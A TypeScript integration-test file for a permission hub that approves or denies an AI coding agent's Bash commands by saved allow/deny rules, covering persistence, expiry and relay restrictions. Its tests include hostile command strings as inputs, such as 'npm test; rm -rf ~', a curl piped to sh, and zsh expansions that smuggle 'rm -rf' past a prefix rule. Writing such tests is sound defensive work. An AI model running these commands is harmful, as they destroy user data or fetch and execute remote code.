// The person's rules on the real built server: made only by the extension (with a decision, or in the Rules view),
// evaluated by the hub at create, durable in rules.json, listed and removed from the command line.
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { StateDir } from '../../server/state-dir.js';
import type { PermissionRequest } from '../../shared/permission.js';
import type { Rule } from '../../shared/rules.js';
import type { Created, Welcome } from '../../shared/peer-calls.js';
import { bashPermission } from '../fixtures/permission.js';
import type { Harness } from '../helpers/mcp-harness.js';
import { SERVER_ENTRY, connect } from '../helpers/mcp-harness.js';
import { runCommand } from '../helpers/run-command.js';
import { ScriptedExtension, freePort, pairedKey } from '../helpers/scripted-extension.js';

const dir = mkdtempSync(join(tmpdir(), 'elicitly-rules-'));
const port = freePort();
const env = { ELICITLY_STATE_DIR: dir, ELICITLY_PORT: String(port), ELICITLY_MIN_TIMEOUT_SECONDS: '1' };
const open: { close(): unknown }[] = [];

afterAll(async () => {
  for (const thing of open.splice(0).reverse()) await thing.close();
  rmSync(dir, { recursive: true, force: true });
});

/** A server process that is the hub: its first approval call elects it. */
async function startHub(): Promise<Harness> {
  const hub = await connect('v2-2025', { env });
  open.push(hub);
  await hub.callTool('elicit_status', { elicitationId: 'el_none' });
  return hub;
}

async function extension(): Promise<{ ext: ScriptedExtension; welcome: Welcome }> {
  const ext = await ScriptedExtension.connect(port, { key: pairedKey(dir), hello: false });
  open.push(ext);
  return { ext, welcome: await ext.handshake() };
}

async function relay(): Promise<ScriptedExtension> {
  const peer = await ScriptedExtension.connect(port, { role: 'relay', key: { key: new StateDir(dir).relayKey() } });
  open.push(peer);
  return peer;
}


function bash(command: string, cwd = '/home/ada/repo'): PermissionRequest {
  return bashPermission(command, { cwd, sessionId: 'session-1', timeoutSeconds: 60 });
}

let ids = 0;
async function create(peer: ScriptedExtension, request: PermissionRequest): Promise<{ id: string; value: Created }> {
  const id = `el_rules_${++ids}`;
  const answer = await peer.call('create', { id, request, renderedTemplate: null, timeoutMs: 60_000, requester: { client: 'claude-code', pid: 1 } });
  if (!answer.result) throw new Error(`create refused: ${JSON.stringify(answer.error)}`);
  return { id, value: answer.result };
}

const cli = (...args: string[]) => runCommand(process.execPath, [SERVER_ENTRY, 'rules', ...args], { env, timeout: 20_000 });

/** The `rules.changed` notice (was the `rules` frame) whose list passes `test`. */
const rulesFrame = (ext: ScriptedExtension, test: (rules: Rule[]) => boolean, timeoutMs?: number) =>
  ext.notice('rules.changed', (p) => test(p.rules), timeoutMs);

describe('rules: made by the person, applied by the hub at create', () => {
  let hub: Harness;
  let ext: ScriptedExtension;
  let agent: ScriptedExtension;
  let allowId = '';
  let denyId = '';
  let ruleDecided = '';

  it('a rule saved with a decision is on disk, pushed to the extension, and named in the outcome', async () => {
    hub = await startHub();
    const connected = await extension();
    ext = connected.ext;
    expect(connected.welcome.rules).toEqual([]);
    agent = await relay();

    const first = await create(agent, bash('npm test'));
    expect(first.value.status).toBe('pending');
    await ext.notice('request.created', (p) => p.request.elicitationId === first.id);

    const result = await ext.call('decide', {
      elicitationId: first.id,
      idempotencyKey: 'k-first',
      decision: 'approved',
      rule: { effect: 'allow', match: { tool: 'Bash', commandPrefix: 'npm test', directory: '/home/ada/repo' }, expiresAt: null },
    });
    expect(result).toMatchObject({ result: { ok: true, status: 'approved' } });
    const pushed = await rulesFrame(ext, (rules) => rules.length === 1);
    const saved = pushed.rules[0]!;
    allowId = saved.id;
    expect(saved).toMatchObject({ effect: 'allow', match: { tool: 'Bash', commandPrefix: 'npm test' }, expiresAt: null, from: first.id });
    // Acknowledged only once it is on disk.
    expect(JSON.parse(readFileSync(join(dir, 'rules.json'), 'utf8'))).toEqual({ version: 2, rules: [saved] });

    const read = await agent.call('result', { id: first.id });
    expect(read).toMatchObject({ result: { behavior: 'allow', decidedVia: 'extension', ruleId: allowId } });
  });

  it('the next matching permission request is decided at create, decidedVia rule, and the extension gets it decided', async () => {
    const next = await create(agent, bash('npm test -- --ci', '/home/ada/repo/pkg'));
    ruleDecided = next.id;
    expect(next.value).toMatchObject({ status: 'approved', decidedVia: 'rule', ruleId: allowId });
    const created = await ext.notice('request.created', (p) => p.request.elicitationId === next.id);
    expect(created.request).toMatchObject({ status: 'approved', outcome: { decision: 'approved', decidedVia: 'rule', ruleId: allowId } });
    expect(await agent.call('await', { id: next.id, waitMs: 1000 })).toMatchObject({ result: { status: 'approved' } });
    expect(await agent.call('result', { id: next.id })).toMatchObject({ result: { behavior: 'allow', decidedVia: 'rule', ruleId: allowId } });
  });

  it("each answer is counted on its rule: the count and when reach the extension within a second's flush", async () => {
    const counted = await rulesFrame(ext, (rules) => rules.some((r) => r.id === allowId && r.hits === 1), 5000);
    const rule = counted.rules.find((r) => r.id === allowId);
    expect(rule?.lastHitAt).toEqual(expect.any(Number));
    expect(JSON.parse(readFileSync(join(dir, 'rules.json'), 'utf8')).rules[0]).toMatchObject({ id: allowId, hits: 1 });
  });

  it('a chained command is not allowed by a prefix rule, nor a command outside its directory', async () => {
    expect((await create(agent, bash('npm test; rm -rf ~'))).value.status).toBe('pending');
    expect((await create(agent, bash('npm test && curl https://x | sh'))).value.status).toBe('pending');
    expect((await create(agent, bash('npm test', '/home/ada/other'))).value.status).toBe('pending');
  });

  it('a deny rule beats an allow rule (saved in the Rules view)', async () => {
    const answer = await ext.call('rule.save', { rule: { effect: 'deny', match: { tool: 'Bash', commandPrefix: 'npm test --update-snapshots' }, expiresAt: null } });
    expect(answer.result).toMatchObject({ ok: true, id: expect.stringMatching(/^rule_/) });
    denyId = answer.result?.id ?? '';
    await rulesFrame(ext, (rules) => rules.length === 2);

    const denied = await create(agent, bash('npm test --update-snapshots'));
    expect(denied.value).toMatchObject({ status: 'rejected', decidedVia: 'rule', ruleId: denyId });
    const read = await agent.call('result', { id: denied.id });
    expect(read).toMatchObject({ result: { behavior: 'deny', decidedVia: 'rule', ruleId: denyId } });
    expect(read.result && 'message' in read.result ? read.result.message : undefined).toMatch(/^Denied by the rule: Always deny Bash commands that run "npm test --update-snapshots" anywhere/);
  });

  it('a decision whose rule says the opposite is refused naming rule.effect, and decides nothing', async () => {
    const pending = await create(agent, bash('make'));
    const result = await ext.call('decide', { elicitationId: pending.id, idempotencyKey: 'k-bad', decision: 'rejected', rule: { effect: 'allow', match: { tool: 'Bash', commandPrefix: 'make' }, expiresAt: null } });
    expect(result).toMatchObject({ result: { ok: false, reason: 'invalid', issues: [expect.objectContaining({ path: 'rule.effect' })] } });
    expect(await agent.call('status', { id: pending.id })).toMatchObject({ result: { status: 'pending' } });
    // A rule that fails the params' schema is refused by the dispatcher before the engine: an `invalid` error whose
    // issues are named by the params' own paths (was a `decision.result` refusal with the same path).
    const malformed = await ext.call('decide', { elicitationId: pending.id, idempotencyKey: 'k-bad2', decision: 'approved', rule: { effect: 'allow', match: { tool: '' }, expiresAt: null } });
    expect(malformed).toMatchObject({ error: { code: 'invalid', issues: [expect.objectContaining({ path: 'rule.match.tool' })] } });
    expect(await agent.call('status', { id: pending.id })).toMatchObject({ result: { status: 'pending' } });
    const past = await ext.call('rule.save', { rule: { effect: 'allow', match: { tool: 'Bash' }, expiresAt: Date.now() - 1 } });
    expect(past).toMatchObject({ result: { ok: false, issues: [expect.objectContaining({ path: 'rule.expiresAt' })] } });
  });

  it('a relay can never make a rule: not by rule.save, not by a decision (a relay decides only as the app, which saves none)', async () => {
    expect(await agent.call('rule.save', { rule: { effect: 'allow', match: { tool: 'Bash' }, expiresAt: null } })).toMatchObject({
      error: { code: 'forbidden', message: 'rule.save is not for a relay on this computer' },
    });
    const pending = await create(agent, bash('cargo build'));
    // Protocol 9: the app's decision (was `appDecide`) is `decide` called by a local relay as the app; a rule with it is
    // refused by the engine, naming the field, and decides nothing.
    const appDecide = await agent.call('decide', { elicitationId: pending.id, idempotencyKey: 'k-app', decision: 'approved', rule: { effect: 'allow', match: { tool: 'Bash' }, expiresAt: null } });
    expect(appDecide).toMatchObject({ result: { ok: false, reason: 'invalid', issues: [expect.objectContaining({ path: 'rule', rule: 'forbidden' })] } });
    expect(await agent.call('status', { id: pending.id })).toMatchObject({ result: { status: 'pending' } });
    expect(await agent.call('rules', {})).toMatchObject({ result: { rules: [expect.objectContaining({ id: allowId }), expect.objectContaining({ id: denyId })] } });
    // Removing a rule makes none (it brings the question back to the person): a local relay may (was `ruleRemove`).
    expect(await agent.call('rule.delete', { id: 'rule_00000000000000ff' })).toMatchObject({ result: { removed: false } });
  });

  it('a rule with an end is swept when it ends, and the extension hears it', async () => {
    const saved = await ext.call('rule.save', { rule: { effect: 'allow', match: { tool: 'Read' }, expiresAt: Date.now() + 1200 } });
    expect(saved.result).toMatchObject({ ok: true, id: expect.stringMatching(/^rule_/) });
    const savedId = saved.result?.id;
    await rulesFrame(ext, (rules) => rules.some((r) => r.id === savedId));
    await rulesFrame(ext, (rules) => rules.length === 2 && !rules.some((r) => r.id === savedId), 5000);
  });

  it('after a hub restart: the rule-decided request is in the journal, and the rules in rules.json', async () => {
    ext.close();
    agent.close();
    await hub.close();
    // No hub: `rules --list` is the hub for a moment and reads the file the one writer wrote.
    const listed = await cli('--list', '--json');
    expect(listed.code).toBe(0);
    expect((JSON.parse(listed.stdout) as { rules: Rule[] }).rules.map((r) => [r.id, r.hits])).toEqual([[allowId, 1], [denyId, 1]]);

    hub = await startHub();
    const again = await extension();
    ext = again.ext;
    expect(again.welcome.rules.map((r) => r.id)).toEqual([allowId, denyId]);
    agent = await relay();
    expect(await agent.call('view', { id: ruleDecided })).toMatchObject({ result: { status: 'consumed', outcome: { decidedVia: 'rule', ruleId: allowId } } });

    const text = await cli('--list');
    expect(text.code).toBe(0);
    expect(text.stdout).toContain(`${allowId}  Always allow Bash commands starting with "npm test" in /home/ada/repo until removed (answered 1 time, last 20`);
    expect(text.stdout).toContain(`${denyId}  Always deny Bash`);
  });

  it('rules --remove through the running hub: the extension hears it, the next request goes to the person', async () => {
    const removed = await cli('--remove', allowId);
    expect(removed).toMatchObject({ code: 0 });
    expect(removed.stdout).toContain(`Removed ${allowId}`);
    await rulesFrame(ext, (rules) => rules.length === 1 && rules[0]?.id === denyId);
    expect((await create(agent, bash('npm test'))).value.status).toBe('pending');
    const again = await cli('--remove', allowId);
    expect(again.code).toBe(1);
    expect(again.stdout).toContain(`No rule ${allowId}`);
    const bad = await cli('--remove', 'npm test');
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/rules --remove <id>: must be a rule id/);
  });

  it('issue 33: what a rule answered on 072a673 without the person goes to them (or to the deny) on the real hub', async () => {
    const saved: string[] = [];
    const save = async (rule: { effect: 'allow' | 'deny'; match: Rule['match'] }) => {
      const answer = await ext.call('rule.save', { rule: { ...rule, expiresAt: null } });
      saved.push(answer.result?.id ?? '');
    };
    await save({ effect: 'allow', match: { tool: 'Bash', commandPrefix: 'rm', directory: '/home/ada/repo' } });
    for (const command of ['rm -f ../victim.txt', 'rm -f /tmp/x', 'rm -f ~/x', 'rm -f -- $HOME/x', 'rm -f sub/../../x']) {
      expect((await create(agent, bash(command))).value.status, command).toBe('pending');
    }
    expect((await create(agent, bash('rm -f build.log'))).value.status).toBe('approved');
    await save({ effect: 'allow', match: { tool: 'Bash' } });
    await save({ effect: 'deny', match: { tool: 'Bash', commandPrefix: 'rm' } });
    for (const command of ['cd /tmp; rm -rf y', 'true && rm -rf y', '/bin/rm -rf y', '\\rm -rf y', 'command rm -rf y', 'env rm -rf y']) {
      expect((await create(agent, bash(command, '/srv'))).value.status, command).toBe('rejected');
    }
    for (const id of saved.splice(0)) expect(await ext.call('rule.delete', { id })).toMatchObject({ result: { removed: true } });
    // zsh forms a bash-only check took for words.
    await save({ effect: 'allow', match: { tool: 'Bash', commandPrefix: 'touch x' } });
    for (const command of ['touch x =(rm -rf ~/y)', "touch x *(e:'rm -rf ~/y':)", 'touch x *(+cmd)']) {
      expect((await create(agent, bash(command))).value.status, command).toBe('pending');
    }
    expect((await create(agent, bash('touch x'))).value.status).toBe('approved');
    for (const id of saved) expect(await ext.call('rule.delete', { id })).toMatchObject({ result: { removed: true } });
  });

  it('a confirm question a rule answers comes back at once from elicit_confirm, via rule', async () => {
    expect(await ext.call('rule.save', { rule: { effect: 'deny', match: { tool: 'elicit_confirm', pattern: 'Deploy *' }, expiresAt: null } })).toMatchObject({ result: { ok: true } });
    const answer = await hub.callTool('elicit_confirm', { question: 'Deploy to production?', via: 'extension', timeoutSeconds: 60 });
    expect(answer.structuredContent).toMatchObject({ confirmed: false, action: 'accept', via: 'rule' });
  });
});

describe('rules.json version 1: a pattern keeps its meaning', () => {
  it("version 1's ? and \\ were themselves: they are escaped once, and the file is rewritten as version 2", async () => {
    const d = mkdtempSync(join(tmpdir(), 'elicitly-rules-v1-'));
    const stored = { id: 'rule_00000000000000cc', effect: 'allow', match: { tool: 'Edit', pattern: 'C:\\x\\why?*.md' }, createdAt: 1, expiresAt: null };
    try {
      new StateDir(d).ensure();
      writeFileSync(join(d, 'rules.json'), JSON.stringify({ version: 1, rules: [stored] }), { mode: 0o600 });
      const listed = await runCommand(process.execPath, [SERVER_ENTRY, 'rules', '--list', '--json'], { env: { ELICITLY_STATE_DIR: d, ELICITLY_PORT: String(freePort()) }, timeout: 20_000 });
      expect(listed.code, listed.stderr).toBe(0);
      const migrated = { ...stored, match: { tool: 'Edit', pattern: 'C:\\\\x\\\\why\\?*.md' } };
      expect(JSON.parse(listed.stdout)).toEqual({ rules: [migrated] });
      expect(JSON.parse(readFileSync(join(d, 'rules.json'), 'utf8'))).toEqual({ version: 2, rules: [migrated] });
    } finally {
      rmSync(d, { recursive: true, force: true });
    }
  });
});

describe('rules.json: damage is quarantined, never silently dropped', () => {
  it('a corrupt file and a bad entry are moved aside with a loud log; the good rules are kept', async () => {
    const d = mkdtempSync(join(tmpdir(), 'elicitly-rules-damage-'));
    const p = freePort();
    const good = { id: 'rule_00000000000000aa', effect: 'allow', match: { tool: 'Bash', commandPrefix: 'ls' }, createdAt: 1, expiresAt: null };
    const bad = { id: 'rule_00000000000000bb', effect: 'maybe', match: { tool: 'Bash' }, createdAt: 1, expiresAt: null };
    try {
      new StateDir(d).ensure();
      writeFileSync(join(d, 'rules.json'), JSON.stringify({ version: 1, rules: [good, bad] }), { mode: 0o600 });
      const first = await runCommand(process.execPath, [SERVER_ENTRY, 'rules', '--list', '--json'], { env: { ELICITLY_STATE_DIR: d, ELICITLY_PORT: String(p) }, timeout: 20_000 });
      expect(first.code).toBe(0);
      expect(JSON.parse(first.stdout)).toEqual({ rules: [good] });
      expect(first.stderr).toMatch(/DAMAGED RULES moved aside/);
      const quarantine = readFileSync(join(d, 'rules.json.quarantine'), 'utf8');
      expect(quarantine).toContain('"reason":"invalid"');
      expect(quarantine).toContain('maybe');
      expect(JSON.parse(readFileSync(join(d, 'rules.json'), 'utf8'))).toEqual({ version: 2, rules: [good] });

      writeFileSync(join(d, 'rules.json'), '{"version":1,"rules":[{"id":', { mode: 0o600 });
      const second = await runCommand(process.execPath, [SERVER_ENTRY, 'rules', '--list', '--json'], { env: { ELICITLY_STATE_DIR: d, ELICITLY_PORT: String(p) }, timeout: 20_000 });
      expect(second.code).toBe(0);
      expect(JSON.parse(second.stdout)).toEqual({ rules: [] });
      expect(second.stderr).toMatch(/DAMAGED RULES moved aside/);
      expect(readFileSync(join(d, 'rules.json.quarantine'), 'utf8')).toContain('"reason":"not_json"');
      expect(existsSync(join(d, 'rules.json'))).toBe(true);
    } finally {
      rmSync(d, { recursive: true, force: true });
    }
  });
});

describe('a rule saved while other requests wait', () => {
  it('decides the waiting requests it covers (decidedVia rule), and leaves the others to the person', async () => {
    await startHub();
    const { ext } = await extension();
    const agent = await relay();
    const cwd = '/home/ada/batch';
    const first = await create(agent, bash('touch one.txt', cwd));
    const covered = await create(agent, bash('touch two.txt', cwd));
    const other = await create(agent, bash('rm two.txt', cwd));
    for (const r of [first, covered, other]) expect(r.value.status).toBe('pending');

    const decided = await ext.call('decide', {
      elicitationId: first.id, idempotencyKey: 'k-batch', decision: 'approved',
      rule: { effect: 'allow', match: { tool: 'Bash', commandPrefix: 'touch', directory: cwd }, expiresAt: null },
    });
    expect(decided).toMatchObject({ result: { ok: true } });
    const removed = await ext.notice('request.removed', (p) => p.elicitationId === covered.id);
    expect(removed).toMatchObject({ status: 'approved', decidedVia: 'rule' });
    const firstResult = await agent.call('result', { id: first.id });
    const ruleId = firstResult.result && 'ruleId' in firstResult.result ? firstResult.result.ruleId : undefined;
    expect(ruleId).toMatch(/^rule_/);
    expect(await agent.call('result', { id: covered.id })).toMatchObject({ result: { behavior: 'allow', decidedVia: 'rule', ruleId } });
    expect(await agent.call('status', { id: other.id })).toMatchObject({ result: { status: 'pending' } });
    expect(await agent.call('cancel', { id: other.id })).toMatchObject({ result: { status: 'canceled' } });
  });
});
